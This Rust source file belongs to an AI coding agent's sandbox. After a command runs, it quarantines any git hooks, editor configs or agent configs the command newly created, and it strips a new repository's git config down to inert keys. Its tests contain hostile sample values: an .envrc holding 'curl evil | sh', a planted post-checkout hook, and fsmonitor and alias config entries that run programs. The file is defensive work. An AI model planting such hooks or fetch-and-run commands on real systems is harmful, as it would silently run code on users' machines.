//! What a sandboxed command created among the protected names (git hooks, editor, agent and
//! hook-manager configs — `safety::sandbox::protected`): the sandbox keeps the existing ones
//! read-only, but a mount cannot protect a name that does not exist yet. So the names missing
//! before a command are checked after it, and what it created there is put out of action —
//! renamed to `<name>.quarantined`, never deleted, so nothing of the user's is lost. A new
//! repository (`git init`) is kept, minus hooks other than git's samples and any config key
//! outside a short list of inert ones.

use std::path::{Path, PathBuf};

use crate::safety::sandbox::protected;

/// Keys a fresh repository's config may keep (`section.key`, or `section.*.key` for
/// subsections); everything else (fsmonitor, pager, aliases, filters, hooksPath, includes,
/// credential helpers, …) can make a later git command run a program.
const INERT_GIT_KEYS: &[&str] = &[
    "core.repositoryformatversion",
    "core.filemode",
    "core.bare",
    "core.logallrefupdates",
    "core.ignorecase",
    "core.precomposeunicode",
    "core.symlinks",
    "core.autocrlf",
    "core.eol",
    "core.quotepath",
    "init.defaultbranch",
    "user.name",
    "user.email",
    "remote.*.url",
    "remote.*.fetch",
    "remote.*.pushurl",
    "branch.*.remote",
    "branch.*.merge",
    "branch.*.rebase",
    "extensions.objectformat",
    "submodule.*.url",
    "submodule.*.active",
    "submodule.*.branch",
];

/// The protected names missing before a command.
#[derive(Debug, Clone, Default)]
pub struct Sweep {
    missing: Vec<PathBuf>,
}

impl Sweep {
    /// Notes which protected names of `roots` do not exist now.
    pub fn before(roots: &[PathBuf]) -> Sweep {
        Sweep {
            missing: protected::missing(roots),
        }
    }

    /// Puts out of action whatever appeared at those names; returns what was done, for the
    /// model (empty when nothing appeared).
    pub fn after(&self) -> Vec<String> {
        let mut notes = Vec::new();
        for path in &self.missing {
            if std::fs::symlink_metadata(path).is_err() {
                continue;
            }
            let name = path
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .unwrap_or_default();
            if name == ".git" {
                notes.extend(defuse_repository(path));
            } else if let Some(moved) = quarantine(path) {
                notes.push(format!(
                    "created {} (a file that makes a tool run code later); it was renamed to {}",
                    path.display(),
                    moved.display()
                ));
            }
        }
        notes
    }
}

/// The note for the model when a sweep did something.
pub fn note(done: &[String]) -> Option<String> {
    (!done.is_empty()).then(|| {
        format!(
            "The command {}. Files that run code later need the user's approval: write them with \
             write_file or patch (which ask), or ask the user.",
            done.join("; ")
        )
    })
}

/// Renames `path` to the first free `<path>.quarantined[.N]`.
fn quarantine(path: &Path) -> Option<PathBuf> {
    let base = path.as_os_str().to_owned();
    (0..100).find_map(|n| {
        let mut target = base.clone();
        target.push(if n == 0 {
            ".quarantined".to_string()
        } else {
            format!(".quarantined.{n}")
        });
        let target = PathBuf::from(target);
        if std::fs::symlink_metadata(&target).is_ok() {
            return None;
        }
        std::fs::rename(path, &target).ok().map(|()| target)
    })
}

/// A repository the command created: its hooks (other than samples) quarantined, its config
/// reduced to inert keys.
fn defuse_repository(dot_git: &Path) -> Vec<String> {
    let mut notes = Vec::new();
    let git_dir = match std::fs::symlink_metadata(dot_git) {
        Ok(meta) if meta.is_dir() => dot_git.to_path_buf(),
        // A `.git` file pointing elsewhere: nothing of ours to inspect, so out of action.
        _ => {
            if let Some(moved) = quarantine(dot_git) {
                notes.push(format!(
                    "created {} pointing to another repository; it was renamed to {}",
                    dot_git.display(),
                    moved.display()
                ));
            }
            return notes;
        }
    };
    let hooks = git_dir.join("hooks");
    for entry in std::fs::read_dir(&hooks).into_iter().flatten().flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if !name.ends_with(".sample")
            && !name.contains(".quarantined")
            && let Some(moved) = quarantine(&entry.path())
        {
            notes.push(format!(
                "created the git hook {}; it was renamed to {}",
                entry.path().display(),
                moved.display()
            ));
        }
    }
    let config = git_dir.join("config");
    if let Ok(text) = std::fs::read_to_string(&config) {
        let (kept, dropped) = inert_config(&text);
        if !dropped.is_empty() && std::fs::write(&config, kept).is_ok() {
            notes.push(format!(
                "set {} in {}; removed, since git would run programs from them",
                dropped.join(", "),
                config.display()
            ));
        }
    }
    notes
}

/// The config with only inert keys left, and the keys removed.
fn inert_config(text: &str) -> (String, Vec<String>) {
    let mut kept = String::new();
    let mut dropped = Vec::new();
    let mut section = String::new();
    for line in text.lines() {
        let trimmed = line.trim();
        if trimmed.starts_with('[') {
            section = section_name(trimmed);
            kept.push_str(line);
            kept.push('\n');
            continue;
        }
        if trimmed.is_empty() || trimmed.starts_with('#') || trimmed.starts_with(';') {
            kept.push_str(line);
            kept.push('\n');
            continue;
        }
        let key = trimmed
            .split(['=', ' ', '\t'])
            .next()
            .unwrap_or("")
            .to_ascii_lowercase();
        let full = format!("{section}.{key}");
        if is_inert(&full) && !line.trim_end().ends_with('\\') {
            kept.push_str(line);
            kept.push('\n');
        } else {
            dropped.push(full);
        }
    }
    (kept, dropped)
}

/// `[remote "origin"]` → `remote.*`, `[core]` → `core`.
fn section_name(header: &str) -> String {
    let inner = header.trim_start_matches('[').split(']').next().unwrap_or("");
    let mut parts = inner.split_whitespace();
    let name = parts.next().unwrap_or("").to_ascii_lowercase();
    match parts.next() {
        Some(_) => format!("{name}.*"),
        None => match name.split_once('.') {
            Some((section, _)) => format!("{section}.*"),
            None => name,
        },
    }
}

fn is_inert(key: &str) -> bool {
    INERT_GIT_KEYS.contains(&key)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn created_protected_names_are_quarantined_and_others_left_alone() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        std::fs::create_dir(root.join(".vscode")).unwrap();
        let sweep = Sweep::before(std::slice::from_ref(&root));
        std::fs::write(root.join(".envrc"), "curl evil | sh").unwrap();
        std::fs::write(root.join(".vscode/tasks.json"), "{}").unwrap();
        std::fs::write(root.join("main.rs"), "fn main() {}").unwrap();
        let done = sweep.after();
        assert_eq!(done.len(), 1, "{done:?}");
        assert!(!root.join(".envrc").exists() && root.join(".envrc.quarantined").exists());
        // It existed before: the sandbox kept it read-only, the sweep leaves it.
        assert!(root.join(".vscode/tasks.json").exists());
        assert!(root.join("main.rs").exists());
        assert!(note(&done).unwrap().contains("write_file"));
    }

    #[test]
    fn a_new_repository_keeps_samples_and_inert_config_only() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let sweep = Sweep::before(std::slice::from_ref(&root));
        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
        std::fs::write(root.join(".git/hooks/pre-commit.sample"), "").unwrap();
        std::fs::write(root.join(".git/hooks/post-checkout"), "evil").unwrap();
        std::fs::write(
            root.join(".git/config"),
            "[core]\n\tbare = false\n\tfsmonitor = evil\n[alias]\n\tx = !evil\n[remote \"origin\"]\n\turl = https://x\n",
        )
        .unwrap();
        let done = sweep.after();
        assert!(root.join(".git/hooks/pre-commit.sample").exists());
        assert!(!root.join(".git/hooks/post-checkout").exists());
        let config = std::fs::read_to_string(root.join(".git/config")).unwrap();
        assert_eq!(
            config,
            "[core]\n\tbare = false\n[alias]\n[remote \"origin\"]\n\turl = https://x\n"
        );
        assert_eq!(done.len(), 2, "{done:?}");
    }
}
